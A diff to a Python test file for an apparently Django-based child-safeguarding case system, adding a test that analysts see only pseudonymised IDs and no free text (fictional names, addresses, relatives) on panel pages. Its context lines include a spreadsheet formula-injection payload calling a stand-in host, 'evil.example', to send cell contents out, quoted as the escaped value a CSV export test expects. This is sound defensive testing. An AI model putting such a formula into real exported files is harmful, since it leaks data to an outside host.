@@ -68,3 +68,54 @@ def test_qa_csv_export_neutralises_spreadsheet_formulas(client, world, referral)
     for key, value in rows[0].items():
         assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (key, value)
     assert rows[0]["rationale"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Open")'
+
+
+def test_analyst_reads_no_free_text_on_panel_case_pages(client, world, child, referral):
+    """Analysts work on pseudonymised data: the referral, joint plan and Safeguarding Order pages
+    showed them the panel's free text (answers to information requests, rationales, plan summaries,
+    order conditions), where a child's name, address or family is often written."""
+    from ccehub.panels import services as panels
+    from tests.panels.test_plans_orders import _order, _plan
+
+    info = panels.information_request_create(
+        actor=world["as_lead"],
+        referral=referral,
+        recipient_role="health",
+        recipient_agency=world["health"],
+        recipient_name="Dr Sam Health",
+        question="Has Jamie been seen at 12 Acacia Road?",
+        due_on=date(2024, 3, 15),
+        today=date(2024, 3, 5),
+    )
+    panels.information_request_respond(
+        actor=world["as_health"],
+        request=info,
+        response="Jamie Testcase attended with his uncle",
+        today=date(2024, 3, 6),
+    )
+    meeting = held_meeting(world, referral, held_on=date(2024, 3, 20))
+    decide(world, meeting, referral, "rg_positive", rationale="Jamie Testcase was recruited by his cousin")
+    plan = _plan(world, child, summary="Jamie to move to his aunt in Luton", today=date(2024, 3, 20))
+    order = _order(
+        world,
+        child,
+        legal_basis_detail="Order for Jamie Testcase",
+        conditions=[("curfew", "Jamie home at 12 Acacia Road by 21:00")],
+    )
+    c = _client(client, world, "analyst")
+    for url in (
+        reverse("panels:referral", args=[referral.pk]),
+        reverse("panels:plan", args=[plan.pk]),
+        reverse("panels:order", args=[order.pk]),
+    ):
+        response = c.get(url)
+        assert response.status_code == 200, url
+        page = response.content.decode()
+        assert child.pseudonymous_id in page
+        for text in ("Jamie", "Acacia", "uncle", "cousin", "Luton"):
+            assert text not in page, (url, text)
+    client.logout()
+    lead = _client(client, world, "lead")
+    assert (
+        "Jamie Testcase attended" in lead.get(reverse("panels:referral", args=[referral.pk])).content.decode()
+    )
